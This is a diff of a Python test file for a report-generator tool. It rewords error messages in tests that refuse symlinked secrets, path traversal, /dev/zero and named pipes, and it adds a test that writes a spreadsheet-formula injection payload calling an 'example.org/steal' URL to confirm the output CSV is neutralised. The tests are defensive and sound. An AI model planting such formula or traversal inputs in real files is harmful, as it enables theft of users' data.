@@ -109,8 +109,7 @@ def test_files_outside_the_project_are_never_read(project, secret, command):
     (project / "seeds/gazette.txt").symlink_to(secret)
     status, output = run(project, *command)
     assert (status, first_problem(output)) == (
-        1, f"seeds/gazette.txt: seeds/gazette.txt is a link to {secret}, outside the project "
-           "folder")
+        1, f"seeds/gazette.txt: this file is a link to {secret}, outside the project folder")
     assert_nowhere(project, output)
     assert (project / "build/briefing.pdf").read_bytes() == pdf_before
 
@@ -120,21 +119,20 @@ def test_files_outside_the_project_are_never_read_through_templates_or_content(p
     edit(project, "templates/cover.html.j2", "</section>", '{% include "note.html.j2" %}</section>')
     status, output = run(project, "build")
     assert (status, first_problem(output)) == (
-        1, f"templates/note.html.j2: templates/note.html.j2 is a link to {secret}, outside the "
-           "project folder")
+        1, f"templates/note.html.j2: this file is a link to {secret}, outside the project "
+           "folder")
     assert_nowhere(project, output)
     edit(project, "templates/cover.html.j2", '"note.html.j2"', '"../../outside/secret.txt"')
     status, output = run(project, "build")
     assert (status, first_problem(output)) == (
-        1, "templates/../../outside/secret.txt: templates/../../outside/secret.txt is outside "
-           "the project folder")
+        1, "templates/../../outside/secret.txt: this file is outside the project folder")
     assert_nowhere(project, output)
     (project / "report/chronology.yaml").unlink()
     (project / "report/chronology.yaml").symlink_to(secret)
     status, output = run(project, "check")
     assert (status, first_problem(output)) == (
-        1, f"report/chronology.yaml: report/chronology.yaml is a link to {secret}, outside the "
-           "project folder")
+        1, f"report/chronology.yaml: this file is a link to {secret}, outside the project "
+           "folder")
     assert_nowhere(project, output)
 
 
@@ -147,11 +145,11 @@ def test_special_files_are_refused_never_opened(project):
     edit(project, "report/sources.yaml", "file: gazette.txt", "file: pipe.txt")
     status, output = run(project, "check", timeout=60)
     assert (status, first_problem(output)) == (
-        1, "seeds/pipe.txt: seeds/pipe.txt is a named pipe, not a file")
+        1, "seeds/pipe.txt: this file is a named pipe, not a regular file")
     edit(project, "report/sources.yaml", "file: pipe.txt", "file: zeros.txt")
     status, output = run(project, "build", timeout=60)
     assert (status, first_problem(output)) == (
-        1, "seeds/zeros.txt: seeds/zeros.txt is a link to /dev/zero, outside the project folder")
+        1, "seeds/zeros.txt: this file is a link to /dev/zero, outside the project folder")
 
 
 def test_network_access_outside_the_sandbox_is_refused(project, server, capsys):
@@ -252,3 +250,22 @@ def test_unicode_a_utf16_seed_gets_the_right_conversion(project, capsys):
     assert capsys.readouterr().err.splitlines()[1:] == [
         "seeds/gazette.txt: the document is not UTF-8 text (byte 0 cannot be read)",
         "    It is UTF-16 text: convert it to UTF-8, for example with: iconv -f UTF-16 -t UTF-8"]
+
+
+def test_smaller_a_missing_project_folder_is_said_to_be_missing(tmp_path, capsys):
+    assert cli.main(["build", str(tmp_path / "briefng")]) == 2
+    assert capsys.readouterr().err == (
+        f"reportgen: {tmp_path / 'briefng'} does not exist: give the folder that holds report/ "
+        "and seeds/ (by default, the current folder).\n")
+
+
+def test_smaller_a_recipient_cannot_plant_a_spreadsheet_formula(project):
+    (project / "report/recipients.yaml").write_text(
+        "recipients:\n"
+        "  - name: '=HYPERLINK(\"http://example.org/steal?\"&A1, \"Open\")'\n"
+        "    organisation: '@Oxfam'\n")
+    assert cli.main(["distribute", "-q", str(project)]) == 0
+    manifest = (project / "build/distribution/manifest.csv").read_text()
+    row = manifest.splitlines()[1]
+    assert row.startswith('1,01-hyperlink-http-example-org-steal-a1-open.pdf,"\'=HYPERLINK(')
+    assert ",'@Oxfam," in row
